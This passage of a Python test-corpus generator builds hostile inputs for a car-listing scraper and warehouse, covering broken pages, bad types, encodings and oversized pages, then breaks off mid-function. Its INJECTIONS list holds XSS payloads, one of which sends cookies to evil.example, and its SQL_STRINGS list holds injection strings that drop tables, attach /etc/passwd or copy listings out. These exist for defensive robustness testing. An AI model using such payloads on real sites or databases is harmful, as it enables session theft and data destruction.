"""A seeded generator of hostile inputs: list and ad pages of both sites, and CSV exports.

Nothing here is committed as data: the same seed always gives the same cases, built from the demo
marketplace's own page renderers (so every page starts as a faithful copy of the site) and then broken in
one way per case: truncated, `__NEXT_DATA__` missing, broken or of the wrong shape, fields of the wrong type,
absurd values, mojibake and mixed encodings, Arabic text, huge pages, empty 200 answers, HTML and script
injection, SQL-looking strings; and, for CSVs, misaligned columns, unknown headers and every quirk the real
exports' SOURCE.md files describe.

Each page case is one (source, day) partition of its own, so that one broken list page fails exactly one
partition and its outcome can be told apart from every other case's.
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
import random
import re
from collections import deque
from dataclasses import dataclass, field
from email.utils import format_datetime
from typing import Callable
from urllib.parse import unquote, urljoin, urlsplit

from autolist_assets.sources.fetch import Response
from autolist_assets.sources.scrape import LIST_PATHS
from demo_market import Faults, Listing, Market, MarketConfig
from demo_market import avito_site, moteur_site
from demo_market.pages import NBSP

UTC = dt.timezone.utc
# Page cases take one partition each, counting back from here (far from any real scrape of the tests).
FIRST_DAY = dt.date(2026, 4, 30)
MARKET_TODAY = dt.date(2026, 5, 20)
BASE_URLS = {"avito": "https://www.avito.ma", "moteur": "https://www.moteur.ma"}
_ID_BASE = {"avito": 60_000_000, "moteur": 500_000}

# ---------------------------------------------------------------------------------------------- hostile text
INJECTIONS = (
    "<script>alert('xss')</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(document.cookie)>',
    "<iframe src=javascript:alert(1)></iframe>",
    "[clique ici](javascript:alert(1))",
    "<b onmouseover=alert(1)>Promo</b>",
    "</script><script>fetch('//evil.example/'+document.cookie)</script>",
    "<a href=\"javascript:alert(1)\">voir</a>",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "<style>body{display:none}</style>",
)
SQL_STRINGS = (
    "'; DROP TABLE raw.listings; --",
    "Robert'); DROP TABLE students;--",
    "1 OR 1=1",
    "' OR '1'='1",
    "\" UNION SELECT seller_phone_hash FROM raw.listings --",
    "Dacia'; DELETE FROM main.fct_listings WHERE '1'='1",
    "x'); ATTACH '/etc/passwd' AS p; --",
    "%' AND 1=0 UNION ALL SELECT NULL--",
    "\\'; COPY raw.listings TO '/tmp/leak.csv'; --",
    "0x27 OR 0x31=0x31",
)
ARABIC = (
    "سيارة داسيا سانديرو للبيع",
    "رونو كليو 4 ديزل بحالة ممتازة",
    "مرسيدس الفئة C موديل ٢٠١٩",
    "بيجو 208 \u200fأوتوماتيك\u200f",
    "فولكسفاغن غولف 7 - الدار البيضاء",
    "كيا بيكانتو، فرصة! ☎ ٠٦١٢٣٤٥٦٧٨",
)
ARABIC_CITIES = ("الدار البيضاء", "مراكش", "طنجة", "فاس", "الرباط")
ARABIC_DIGITS = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")


def mojibake(text: str) -> str:
    """UTF-8 read as Latin-1, the classic 'Ã©' damage."""
    return text.encode("utf-8").decode("latin-1")


# ---------------------------------------------------------------------------------------------- cases
@dataclass(frozen=True)
class Answer:
    """What the corpus site answers for one URL."""

    status: int
    body: bytes
    headers: dict[str, str] = field(default_factory=dict)


@dataclass
class PageCase:
    """One hostile page (list or ad) of one site, served as the only page of a (source, day) partition."""

    case_id: str
    category: str
    source: str
    target: str  # "list" or "ad": which page of the partition is the hostile one
    day: dt.date
    base_url: str
    answers: dict[str, Answer]
    # identifiable ads of `day` the list page shows: each must end up a raw row or a parse-failure record
    expected_cards: int = 1
    # what the warehouse should make of the row, when the case is about one value ("quarantine:<reason>")
    expect: str | None = None
    listing_id: str | None = None


@dataclass
class CsvCase:
    """One hostile CSV export, with the number of data records it holds."""

    case_id: str
    category: str
    file_name: str
    data: bytes
    records: int
    source: str = "auto"


class CorpusFetcher:
    """Answers from a case's pages instead of the network (a Fetcher): unknown URLs get a 404, like a site."""

    name = "corpus"

    def __init__(self, answers: dict[str, Answer], now: dt.datetime):
        self._answers = {self._key(url): answer for url, answer in answers.items()}
        self._now = now
        self.requests: deque[str] = deque()

    @staticmethod
    def _key(url: str) -> str:
        parts = urlsplit(url)
        return unquote(f"{parts.netloc}{parts.path}?{parts.query}")

    def get(self, url: str) -> Response:
        self.requests.append(url)
        answer = self._answers.get(self._key(url))
        if answer is None:
            answer = Answer(404, b"<html><body>Page introuvable</body></html>", {"content-type": "text/html"})
        headers = {"content-type": "text/html; charset=utf-8", "date": format_datetime(self._now, usegmt=True),
                   **answer.headers}
        return Response(url=url, status=answer.status, headers=headers, body=answer.body, fetched_at=self._now,
                        fetcher=self.name)

    def close(self) -> None:
        self._answers.clear()


def case_now(day: dt.date) -> dt.datetime:
    """The corpus site's clock for a partition: the morning after, so the day's ads are all online."""
    return dt.datetime.combine(day + dt.timedelta(days=1), dt.time(9, 30), tzinfo=UTC)


class _Clock:
    """What the demo renderers need of a Market: its clock."""

    def __init__(self, now: dt.datetime):
        self._now = now

    def now(self) -> dt.datetime:
        return self._now


# ---------------------------------------------------------------------------------------------- rendering
def _next_data_bounds(html: str) -> tuple[int, int]:
    marker = html.index('id="__NEXT_DATA__"')
    start = html.index(">", marker) + 1
    return start, html.index("</script>", start)


def mutate_next_data(html: str, change: Callable[[dict], object]) -> str:
    """Apply `change` to the page's `__NEXT_DATA__` payload (it may also return a replacement payload)."""
    start, end = _next_data_bounds(html)
    payload = json.loads(html[start:end].replace("<\\/", "</"))
    replaced = change(payload)
    if replaced is not None:
        payload = replaced
    text = json.dumps(payload, ensure_ascii=False, separators=(",", ":")).replace("</", "<\\/")
    return html[:start] + text + html[end:]


def replace_next_data_text(html: str, change: Callable[[str], str]) -> str:
    """Apply `change` to the raw JSON text of `__NEXT_DATA__` (to break it)."""
    start, end = _next_data_bounds(html)
    return html[:start] + change(html[start:end]) + html[end:]


def avito_list_html(ads: list[Listing], base: str, now: dt.datetime) -> str:
    """An avito list page holding exactly these ads (no next page)."""
    props = {"ads": {"ads": [avito_site._ad_json(ad, base, detail=False, now=now) for ad in ads],
                     "totalListingAds": len(ads), "pageSize": 35, "currentPage": 1}}
    list_url = base + avito_site.LIST_PATH
    return (
        avito_site._head("Voitures d'occasion à vendre au Maroc | Avito", f'<link rel="canonical" href="{list_url}">')
        + '<body><div id="__next"><main><div class="sc-1nre5ec-1 crKvIr listing">'
        + "".join(avito_site._card(ad, base, now) for ad in ads)
        + "</div></main></div>"
        + avito_site._next_data("/[lang]/[city]/[category]", {"lang": "fr", "city": "maroc", "o": "1"}, props).decode()
        + "</body></html>"
    )


def avito_ad_html(ad: Listing, base: str, now: dt.datetime) -> str:
    return avito_site.render_detail(_Clock(now), base, ad).body.decode("utf-8")


def moteur_list_html(ads: list[Listing], now: dt.datetime) -> str:
    return (
        moteur_site._head("Voiture occasion Maroc : achat voiture d'occasion | Moteur.ma")
        + '<div class="container"><h1>Voitures d\'occasion au Maroc</h1><div class="listing">'
        + "".join(moteur_site._card(ad, now) for ad in ads)
        + '</div><ul class="pagination"><li class="active"><a>1</a></li></ul></div></body></html>'
    )


def moteur_ad_html(ad: Listing, now: dt.datetime) -> str:
    return moteur_site.render_detail(ad, now).body.decode("utf-8")


def _html(text: str) -> bytes:
    return text.encode("utf-8")


# ---------------------------------------------------------------------------------------------- the builder
Mutation = Callable[["_Draft"], None]


@dataclass
class _Draft:
    """A case being built: the listing, the two pages as text or bytes, and what it should give."""

    source: str
    ad: Listing
    now: dt.datetime
    base: str
    list_html: str = ""
    ad_html: str = ""
    list_bytes: bytes | None = None
    ad_bytes: bytes | None = None
    list_status: int = 200
    ad_status: int = 200
    ad_headers: dict[str, str] = field(default_factory=dict)
    expected_cards: int = 1
    expect: str | None = None
    extra_ads: list[Listing] = field(default_factory=list)

    @property
    def list_url(self) -> str:
        return self.base + LIST_PATHS[self.source]

    @property
    def ad_url(self) -> str:
        return urljoin(self.list_url, self.ad.url_path) if self.source == "moteur" else self.base + self.ad.url_path


class CorpusBuilder:
    """Draws listings from a small demo market and turns each into one hostile case."""

    def __init__(self, seed: int = 8):
        self.seed = seed
        self.rng = random.Random(seed)
        self.market = Market(MarketConfig(seed=seed, today=MARKET_TODAY, history_days=10, avito_per_day=30,
                                          moteur_per_day=15, faults=Faults.off()))
        self.pool = {s: [ad for day in self.market.days() for ad in self.market.listings(s, day)]
                     for s in ("avito", "moteur")}
        self.page_cases: list[PageCase] = []
        self.csv_cases: list[CsvCase] = []

    # -- pages
    def _listing(self, source: str, day: dt.date, index: int) -> Listing:
        base = self.rng.choice(self.pool[source])
        listing_id = str(_ID_BASE[source] + index)
        posted = dt.datetime.combine(day, base.posted_at.timetz()).replace(second=0 if source == "moteur" else
                                                                           base.posted_at.second)
        ad = dataclasses.replace(base, listing_id=listing_id, posted_at=posted, year=min(base.year, day.year),
                                 price_history=(), gone_status=None, dom_only=False, price_shown=None,
                                 monthly_payment_dh=None, mileage_bucket=None)
        return dataclasses.replace(ad, url_path=Market._url_path(ad, listing_id))

    def page(self, category: str, source: str, target: str, mutation: Mutation) -> PageCase:
        """Build one case: render the partition's list and ad pages, then let `mutation` break them."""
        index = len(self.page_cases)
        day = FIRST_DAY - dt.timedelta(days=index)
        now = case_now(day)
        draft = _Draft(source, self._listing(source, day, index), now, BASE_URLS[source])
        mutation(draft)
        ads = [draft.ad, *draft.extra_ads]
        if not draft.list_html and draft.list_bytes is None:
            draft.list_html = avito_list_html(ads, draft.base, now) if source == "avito" else moteur_list_html(ads, now)
        if not draft.ad_html and draft.ad_bytes is None:
            draft.ad_html = avito_ad_html(draft.ad, draft.base, now) if source == "avito" else \
                moteur_ad_html(draft.ad, now)
        answers = {
            draft.list_url: Answer(draft.list_status, draft.list_bytes if draft.list_bytes is not None
                                   else _html(draft.list_html)),
            draft.ad_url: Answer(draft.ad_status, draft.ad_bytes if draft.ad_bytes is not None
                                 else _html(draft.ad_html), draft.ad_headers),
        }
        for extra in draft.extra_ads:
            url = urljoin(draft.list_url, extra.url_path) if source == "moteur" else draft.base + extra.url_path
            answers.setdefault(url, Answer(200, _html(avito_ad_html(extra, draft.base, now) if source == "avito"
                                                      else moteur_ad_html(extra, now))))
        case = PageCase(f"{source}-{target}-{index:04d}", category, source, target, day, draft.base, answers,
                        draft.expected_cards, draft.expect, draft.ad.listing_id)
        self.page_cases.append(case)
        return case

    # -- CSVs
    def csv(self, category: str, header: list[str], rows: list[list[str]], *, delimiter: str = ",", bom: bool = True,
            encoding: str = "utf-8", newline: str = "\n", raw_lines: list[str] | None = None,
            source: str = "auto") -> CsvCase:
        """One CSV file: a header, rows written by the csv module, then `raw_lines` appended verbatim."""
        buffer = io.StringIO()
        writer = csv.writer(buffer, delimiter=delimiter, lineterminator=newline)
        writer.writerow(header)
        writer.writerows(rows)
        text = buffer.getvalue() + "".join(line + newline for line in raw_lines or [])
        data = (("\ufeff" if bom else "") + text).encode(encoding, errors="replace")
        records = _count_records(data, delimiter)
        index = len(self.csv_cases)
        case = CsvCase(f"csv-{index:04d}", category, f"corpus_{index:04d}_{category}.csv", data, records, source)
        self.csv_cases.append(case)
        return case


def _count_records(data: bytes, delimiter: str) -> int:
    """Data records in a file as the csv module reads them (what the importer must account for)."""
    text = data.decode("utf-8-sig", errors="replace")
    reader = csv.reader(io.StringIO(text), delimiter=delimiter)
    return max(0, sum(1 for _ in reader) - 1)


# ---------------------------------------------------------------------------------------------- page mutations
def _cut(data: bytes, rng: random.Random) -> bytes:
    return data[: max(1, int(len(data) * rng.uniform(0.05, 0.95)))]


def _set_ad_json(draft: _Draft, change: Callable[[dict], None], target: str) -> None:
    """Render the page of `target` and change its ad object(s) inside `__NEXT_DATA__`."""
    if target == "list":
        html = avito_list_html([draft.ad], draft.base, draft.now)
        def each_ad(payload: dict) -> None:
            for ad in payload["props"]["pageProps"]["componentProps"]["ads"]["ads"]:
                change(ad)
        draft.list_html = mutate_next_data(html, each_ad)
    else:
        html = avito_ad_html(draft.ad, draft.base, draft.now)
        def the_ad(payload: dict) -> None:
            change(payload["props"]["pageProps"]["componentProps"]["adInfo"]["ad"])
        draft.ad_html = mutate_next_data(html, the_ad)


def _param(ad: dict, key: str, value) -> None:
    groups = ad["params"].values() if isinstance(ad["params"], dict) else [ad["params"]]
    for group in groups:
        for item in group:
            if item.get("key") == key:
                item["value"] = value
                item["fullValue"] = value if not isinstance(value, (int, str)) else str(value)


def build_corpus(seed: int = 8, scale: int = 1) -> CorpusBuilder:
    """Every hostile case, `scale` rounds of each (scale 1 gives a little over 1,000 cases)."""
    builder = CorpusBuilder(seed)
    rng = builder.rng
    for _ in range(scale):
        _page_cases(builder, rng)
        _csv_cases(builder, rng)
    return builder


def _page_cases(b: CorpusBuilder, rng: random.Random) -> None:  # noqa: C901 (a catalogue, read top to bottom)
    sites = ("avito", "moteur")

    # --- truncated HTML: the body stops anywhere (a proxy cut it, a 200 with a short body)
    for source in sites:
        for target in ("list", "ad"):
            for _ in range(30):
                def cut(d: _Draft, target=target) -> None:
                    html = (avito_list_html([d.ad], d.base, d.now) if d.source == "avito" else
                            moteur_list_html([d.ad], d.now)) if target == "list" else \
                        (avito_ad_html(d.ad, d.base, d.now) if d.source == "avito" else moteur_ad_html(d.ad, d.now))
                    data = _cut(_html(html), rng)
                    if target == "list":
                        d.list_bytes = data
                    else:
                        d.ad_bytes = data
                b.page("truncated_html", source, target, cut)

    # --- __NEXT_DATA__ missing, broken, or of the wrong shape (avito)
    def drop_script(d: _Draft, target: str) -> None:
        html = avito_list_html([d.ad], d.base, d.now) if target == "list" else avito_ad_html(d.ad, d.base, d.now)
        start = html.index('<script id="__NEXT_DATA__"')
        html = html[:start] + html[html.index("</script>", start) + len("</script>"):]
        if target == "list":
            d.list_html = html
        else:
            d.ad_html = html

    for target in ("list", "ad"):
        for _ in range(12):
            b.page("next_data_missing", "avito", target, lambda d, t=target: drop_script(d, t))
    breakers = (
        lambda s: s[: len(s) // 2],
        lambda s: s.replace("{", "", 1),
        lambda s: s.replace('"', "'"),
        lambda s: s.replace(":", "=", 3),
        lambda s: "undefined",
        lambda s: "",
        lambda s: s + ",}",
        lambda s: s.replace("null", "NaN").replace("false", "False"),
        lambda s: "<!-- " + s + " -->",
        lambda s: s.replace('"ads":', '"ads" ', 1),
        lambda s: "[" * 5000 + "]" * 5000,
        lambda s: "[" * 200_000,
    )
    for target in ("list", "ad"):
        for breaker in breakers:
            for _ in range(2):
                def broken(d: _Draft, target=target, breaker=breaker) -> None:
                    html = avito_list_html([d.ad], d.base, d.now) if target == "list" else \
                        avito_ad_html(d.ad, d.base, d.now)
                    html = replace_next_data_text(html, breaker)
                    if target == "list":
                        d.list_html = html
                    else:
                        d.ad_html = html
                b.page("next_data_broken", "avito", target, broken)

    list_shapes: tuple[Callable[[dict], object], ...] = (
        lambda p: p["props"]["pageProps"]["componentProps"]["ads"].update(ads={"0": "x"}),
        lambda p: p["props"]["pageProps"]["componentProps"]["ads"].update(ads="ads"),
        lambda p: p["props"]["pageProps"]["componentProps"]["ads"].update(ads=None),
        lambda p: p["props"]["pageProps"].update(componentProps=[]),
        lambda p: p.update(props="props"),
        lambda p: [1, 2, 3],
        lambda p: "just a string",
        lambda p: None,
        lambda p: 42,
        lambda p: p["props"]["pageProps"]["componentProps"]["ads"]["ads"].extend([None, 7, "ad", [], {}]),
        lambda p: p["props"]["pageProps"]["componentProps"].update(ads={"ads": [], "totalListingAds": 0}),
        lambda p: p["props"]["pageProps"]["componentProps"]["ads"]["ads"][0].update(params="params"),
        lambda p: p["props"]["pageProps"]["componentProps"]["ads"]["ads"][0].update(params=[1, None, "x"]),
        lambda p: p["props"]["pageProps"]["componentProps"]["ads"]["ads"][0].update(seller="Garage"),
        lambda p: p["props"]["pageProps"]["componentProps"]["ads"]["ads"][0].update(location=["Casablanca"]),
        lambda p: p["props"]["pageProps"]["componentProps"]["ads"]["ads"][0].update(location={"city": "Rabat"}),
        lambda p: p["props"]["pageProps"]["componentProps"]["ads"]["ads"][0].update(category="Voitures"),
        lambda p: p["props"]["pageProps"]["componentProps"]["ads"]["ads"][0].update(images={"0": "a.jpg"}),
    )
    for position, shape in enumerate(list_shapes):
        for _ in range(3):
            def shaped(d: _Draft, shape=shape, position=position) -> None:
                d.list_html = mutate_next_data(avito_list_html([d.ad], d.base, d.now), shape)
                # the ad, and five entries that name no ad: each one on record
                d.expected_cards = 6 if position == 9 else 1
            b.page("next_data_wrong_shape", "avito", "list", shaped)
    ad_shapes: tuple[Callable[[dict], object], ...] = (
        lambda p: p["props"]["pageProps"]["componentProps"].update(adInfo={"ad": []}),
        lambda p: p["props"]["pageProps"]["componentProps"].update(adInfo="ad"),
        lambda p: p["props"]["pageProps"].update(componentProps=None),
        lambda p: {"props": {"pageProps": {"apolloState": {"Ad:1": {"ad": "x"}}}}},
        lambda p: p["props"]["pageProps"]["componentProps"]["adInfo"]["ad"].update(params={"primary": "x", "extra": 3}),
        lambda p: p["props"]["pageProps"]["componentProps"]["adInfo"]["ad"].update(seller=["x"]),
        lambda p: p["props"]["pageProps"]["componentProps"]["adInfo"]["ad"].update(phone={"number": 612}),
        lambda p: p["props"]["pageProps"]["componentProps"]["adInfo"]["ad"].update(listTime=1700000000),
        lambda p: [],
    )
    for shape in ad_shapes:
        for _ in range(3):
            b.page("next_data_wrong_shape", "avito", "ad",
                   lambda d, shape=shape: setattr(d, "ad_html", mutate_next_data(avito_ad_html(d.ad, d.base, d.now),
                                                                                 shape)))

    # --- wrong types in the JSON (avito), list and ad pages
    wrong_types: tuple[tuple[str, Callable[[dict], None], int], ...] = (
        ("price_object", lambda a: a.update(price={"value": {"amount": 120000}}), 1),
        ("price_text", lambda a: a.update(price={"value": "cent vingt mille"}), 1),
        ("price_list", lambda a: a.update(price=[120000]), 1),
        ("price_bool", lambda a: a.update(price={"value": True}), 1),
        ("price_float", lambda a: a.update(price={"value": 1.5e308}), 1),
        ("price_nan_text", lambda a: a.update(price={"value": "NaN"}), 1),
        ("year_text", lambda a: _param(a, "regdate", "deux mille dix-neuf"), 1),
        ("year_float", lambda a: _param(a, "regdate", 2019.5), 1),
        ("year_object", lambda a: _param(a, "regdate", {"y": 2019}), 1),
        ("year_huge", lambda a: _param(a, "regdate", "99999999999999999999"), 1),
        ("mileage_object", lambda a: _param(a, "mileage_exact", {"km": 1}), 1),
        ("mileage_text", lambda a: _param(a, "mileage_exact", "beaucoup"), 1),
        ("listid_text", lambda a: a.update(listId="abc"), 1),
        ("listid_object", lambda a: a.update(listId={"id": 1}), 1),
        ("listid_float", lambda a: a.update(listId=1.5), 1),
        ("listid_bool", lambda a: a.update(listId=True), 1),
        ("listid_negative", lambda a: a.update(listId=-4), 1),
        ("subject_number", lambda a: a.update(subject=12345), 1),
        ("subject_list", lambda a: a.update(subject=["Dacia", "Logan"]), 1),
        ("subject_null", lambda a: a.update(subject=None), 1),
        ("date_number", lambda a: a.update(date=1700000000), 1),
        ("date_garbage", lambda a: a.update(date="hier soir"), 1),
        ("href_object", lambda a: a.update(href={"url": "/x"}), 1),
        ("href_number", lambda a: a.update(href=7), 1),
        ("isshop_text", lambda a: a.update(isShop="oui"), 1),
        ("images_text", lambda a: a.update(images="a.jpg"), 1),
        ("category_number", lambda a: a.update(category={"formatted": 1010, "name": None}), 1),
        ("brand_number", lambda a: _param(a, "brand", 42), 1),
        ("fuel_list", lambda a: _param(a, "fuel", ["Diesel"]), 1),
        ("doors_text", lambda a: _param(a, "doors", "cinq"), 1),
    )
    for name, change, cards in wrong_types:
        for target in ("list", "ad"):
            for _ in range(2):
                def typed(d: _Draft, change=change, target=target, cards=cards) -> None:
                    _set_ad_json(d, change, target)
                    d.expected_cards = cards
                b.page("wrong_types", "avito", target, typed)
    moteur_wrong = (
        ("Année", "deux mille dix"), ("Année", "20I9"), ("Kilométrage", "beaucoup"), ("Kilométrage", "{'km': 1}"),
        ("Date", "hier soir"), ("Date", "2025-13-45 25:61"), ("Date", ""), ("Puissance fiscale", "sept"),
        ("Nombre de portes", "[5]"), ("Première main", "peut-être"),
    )
    for label, value in moteur_wrong:
        for _ in range(3):
            def moteur_typed(d: _Draft, label=label, value=value) -> None:
                d.ad_html = _moteur_line(moteur_ad_html(d.ad, d.now), label, value)
            b.page("wrong_types", "moteur", "ad", moteur_typed)
    for text in ("cent mille Dhs", "{'value': 1}", "null", "[120000]", "١٢٠٠٠٠ درهم"):
        for _ in range(2):
            b.page("wrong_types", "moteur", "list",
                   lambda d, text=text: setattr(d, "list_html", _moteur_card_price(moteur_list_html([d.ad], d.now),
                                                                                   text)))

    # --- absurd values: each must land in quarantine with its reason
    absurd: tuple[tuple[str, dict, str | None], ...] = (
        ("negative_km", {"mileage_km": -5000}, "quarantine:unparseable_mileage"),
        ("huge_km", {"mileage_km": 99_999_999}, "quarantine:mileage_out_of_range"),
        ("year_3024", {"year": 3024}, "quarantine:year_out_of_range"),
        ("year_1800", {"year": 1800}, "quarantine:year_out_of_range"),
        ("price_1dh", {"price_dh": 1}, "quarantine:placeholder_price"),
        ("price_661m", {"price_dh": 661_669_557}, "quarantine:price_out_of_bounds"),
        ("price_zero", {"price_dh": 0}, "quarantine:placeholder_price"),
        ("price_negative", {"price_dh": -150_000}, "quarantine:unparseable_price"),
        ("price_500dh", {"price_dh": 500}, "quarantine:placeholder_price"),
        ("doors_57", {"doors": 57}, None),
        ("fiscal_9999", {"fiscal_power": 9999}, None),
        ("images_0", {"image_count": 0}, None),
    )
    for source in sites:
        for name, changes, expect in absurd:
            for _ in range(5):
                def absurd_value(d: _Draft, changes=changes, expect=expect) -> None:
                    d.ad = dataclasses.replace(d.ad, **changes)
                    d.expect = expect
                b.page("absurd_values", source, "ad", absurd_value)

    # --- mojibake and mixed encodings
    def encode_damage(d: _Draft, how: int, target: str) -> None:
        html = (avito_list_html([d.ad], d.base, d.now) if d.source == "avito" else moteur_list_html([d.ad], d.now)) \
            if target == "list" else \
            (avito_ad_html(d.ad, d.base, d.now) if d.source == "avito" else moteur_ad_html(d.ad, d.now))
        if how == 0:
            data = html.encode("cp1252", errors="replace")  # a page sent as Windows-1252 while saying UTF-8
        elif how == 1:
            data = mojibake(html).encode("utf-8")  # double-encoded
        elif how == 2:
            data = html.encode("utf-8").replace(b"a", b"\xff\xfe", 3)  # invalid bytes inside
        elif how == 3:
            data = b"\xef\xbb\xbf" + html.encode("utf-8").replace(b" ", b"\x00", 5)  # BOM and NUL bytes
        elif how == 4:
            data = html.encode("utf-16")  # a whole page in UTF-16
        else:
            data = html.encode("latin-1", errors="replace")
        if target == "list":
            d.list_bytes = data
        else:
            d.ad_bytes = data

    for source in sites:
        for target in ("list", "ad"):
            for how in range(6):
                for _ in range(3):
                    b.page("mojibake", source, target, lambda d, how=how, t=target: encode_damage(d, how, t))
    for source in sites:
        for _ in range(10):
            b.page("mojibake", source, "ad", lambda d: setattr(d, "ad", dataclasses.replace(
                d.ad, title=mojibake(d.ad.title + " très équipée"), seller_name=mojibake("Société Générale Auto"))))

    # --- Arabic titles, cities, sellers and digits
    for source in sites:
        for _ in range(15):
            def arabic(d: _Draft) -> None:
                d.ad = dataclasses.replace(d.ad, title=rng.choice(ARABIC), seller_name="معرض السيارات الحديثة")
                if d.source == "moteur":
                    d.ad_html = moteur_ad_html(d.ad, d.now).replace(f"{NBSP}{NBSP}{d.ad.model}",
                                                                    f"{NBSP}{NBSP}{rng.choice(ARABIC)}", 1)
            b.page("arabic", source, "ad", arabic)
        for _ in range(8):
            def arabic_digits(d: _Draft) -> None:
                if d.source == "avito":
                    _set_ad_json(d, lambda a: (_param(a, "regdate", str(d.ad.year).translate(ARABIC_DIGITS)),
                                               a.update(price={"value": str(d.ad.price_dh).translate(ARABIC_DIGITS)})),
                                 "ad")
                else:
                    d.ad_html = _moteur_line(moteur_ad_html(d.ad, d.now), "Année",
                                             str(d.ad.year).translate(ARABIC_DIGITS))
            b.page("arabic", source, "ad", arabic_digits)
    for _ in range(10):
        def arabic_city(d: _Draft) -> None:
            _set_ad_json(d, lambda a: a.update(location=rng.choice(ARABIC_CITIES)), "list")
        b.page("arabic", "avito", "list", arabic_city)

    # --- huge pages (a few: they are slow by nature)
    for source in sites:
        for size_mb in (2, 6):
            def huge(d: _Draft, size_mb=size_mb) -> None:
                html = avito_ad_html(d.ad, d.base, d.now) if d.source == "avito" else moteur_ad_html(d.ad, d.now)
                filler = "<div class='pub'>" + ("Voiture à vendre, très bon état. " * 30) + "</div>"
                padding = filler * (size_mb * 1024 * 1024 // len(filler))
                d.ad_html = html.replace("</body>", padding + "</body>", 1)
            b.page("huge_page", source, "ad", huge)
        def deep(d: _Draft) -> None:
            html = avito_list_html([d.ad], d.base, d.now) if d.source == "avito" else moteur_list_html([d.ad], d.now)
            d.list_html = html.replace("</body>", "<div>" * 50_000 + "</div>" * 50_000 + "</body>", 1)
        b.page("huge_page", source, "list", deep)
        def many_cards(d: _Draft) -> None:
            others = [b._listing(d.source, d.ad.posted_at.date(), 900_000 + len(b.page_cases) * 50 + k)
                      for k in range(40)]
            d.extra_ads = others
            d.expected_cards = 41
        b.page("huge_page", source, "list", many_cards)

    # --- empty answers with a 200
    empties = (b"", b" ", b"\n\n", b"<html></html>", b"<html><body></body></html>", b"null", b"{}", b"OK",
               b"<!DOCTYPE html>")
    for source in sites:
        for target in ("list", "ad"):
            for body in empties:
                def empty(d: _Draft, body=body, target=target) -> None:
                    if target == "list":
                        d.list_bytes = body
                    else:
                        d.ad_bytes = body
                b.page("empty_200", source, target, empty)

    # --- HTML and script injection in titles, descriptions, sellers, cities
    for source in sites:
        for payload in INJECTIONS:
            for where in ("title", "seller", "model"):
                def inject(d: _Draft, payload=payload, where=where) -> None:
                    if where == "title" and d.source == "avito":
                        d.ad = dataclasses.replace(d.ad, title=f"Dacia Logan {payload}")
                    elif where == "seller":
                        d.ad = dataclasses.replace(d.ad, seller_name=payload)
                    elif d.source == "avito":
                        _set_ad_json(d, lambda a: _param(a, "model", payload), "ad")
                    else:
                        # moteur prints brand and model as the title: the payload rides in unescaped
                        d.ad_html = moteur_ad_html(d.ad, d.now).replace(
                            f"{NBSP}{NBSP}{d.ad.model}", f"{NBSP}{NBSP}{d.ad.model} {payload}", 1)
                        d.list_html = moteur_list_html([d.ad], d.now).replace(
                            f"{NBSP}{NBSP}{d.ad.model}", f"{NBSP}{NBSP}{d.ad.model} {payload}", 1)
                b.page("injection", source, "ad", inject)
        for payload in INJECTIONS[:5]:
            def raw_injection(d: _Draft, payload=payload) -> None:
                html = avito_ad_html(d.ad, d.base, d.now) if d.source == "avito" else moteur_ad_html(d.ad, d.now)
                d.ad_html = html.replace("</h1>", payload + "</h1>", 1)  # the site forgot to escape
            b.page("injection", source, "ad", raw_injection)

    # --- SQL-looking strings everywhere a user types text
    for source in sites:
        for payload in SQL_STRINGS:
            for where in ("title", "seller", "city", "model"):
                def sql(d: _Draft, payload=payload, where=where) -> None:
                    if where == "title" and d.source == "avito":
                        d.ad = dataclasses.replace(d.ad, title=payload)
                    elif where == "seller":
                        d.ad = dataclasses.replace(d.ad, seller_name=payload, seller_phone=payload)
                    elif d.source == "avito":
                        key = "model" if where == "model" else None
                        if key:
                            _set_ad_json(d, lambda a: _param(a, "model", payload), "ad")
                        else:
                            _set_ad_json(d, lambda a: a.update(location=payload), "list")
                    else:
                        d.ad_html = moteur_ad_html(d.ad, d.now).replace(
                            f"{NBSP}{NBSP}{d.ad.model}", f"{NBSP}{NBSP}{payload}", 1)
                b.page("sql_strings", source, "ad", sql)

    # --- odd answers around a good list: the ad page gone, challenged, failing, or the card twice
    for source in sites:
        for status, body, headers in (
            (404, b"<html><body>Page introuvable</body></html>", {}),
            (410, b"<html><body>Annonce supprim\xc3\xa9e</body></html>", {}),
            (500, b"<html><body>Server error</body></html>", {}),
            (403, b"<html><head><title>Just a moment...</title></head><body></body></html>",
             {"cf-mitigated": "challenge"}),
            (200, b"<html><head><title>Just a moment...</title></head><body></body></html>", {}),
        ):
            for _ in range(3):
                def odd(d: _Draft, status=status, body=body, headers=headers) -> None:
                    d.ad_status, d.ad_bytes, d.ad_headers = status, body, headers
                b.page("odd_answers", source, "ad", odd)
        for _ in range(4):
            def twice(d: _Draft) -> None:
                d.extra_ads = [d.ad]
            b.page("odd_answers", source, "list", twice)


def _moteur_line(html: str, label: str, value: str) -> str:
    """Replace the value of one `detail_line` of a moteur ad page (raw HTML, as a broken site would print it)."""
    pattern = re.compile(rf'(<span class="col-md-6 col-xs-6">{re.escape(label)}</span><span class="text_bold">)'
                         r"[^<]*(</span>)")
    return pattern.sub(lambda m: m.group(1) + value + m.group(2), html, count=1)


def _moteur_card_price(html: str, text: str) -> str:
    return re.sub(r'(<div class="PriceListing">)[^<]*(</div>)', lambda m: m.group(1) + text + m.group(2), html,
                  count=1)


# ---------------------------------------------------------------------------------------------- CSV cases
AVITO_2026_HEADER = ["URL", "Title", "Price_Raw", "Année-Modèle", "Boite de vitesses", "Type de carburant",
                     "Kilométrage", "Marque", "Modèle", "Nombre de portes", "Origine", "Première main",
                     "Puissance fiscale", "État"]
AVITO_2024_HEADER = ["nom_proprietaire", "carburant", "boite_vitesse", "puissance_fiscale", "kilometrage", "secteur",
                     "premiere_main", "marque", "etat", "annee_modele", "origine", "nombre_de_portes",
                     "type_vehicule", "prix"]
MOTEUR_STRUCT_HEADER = ["voiture", "prix-dh", "lieu", "kilometrage", "annee-pub", "boite-vitesses", "carburant",
                        "date", "puissance-fiscale", "lien"]
MOTEUR_CARDS_HEADER = ["", "nom", "version", "price", "model", "localisation", "carburant"]


def _avito_2026_row(rng: random.Random, ad: Listing, **overrides) -> list[str]:
    row = {
        "URL": f"https://www.avito.ma/fr/centre_ville/voitures_d_occasion/{ad.brand}_{ad.model}_{ad.listing_id}.htm",
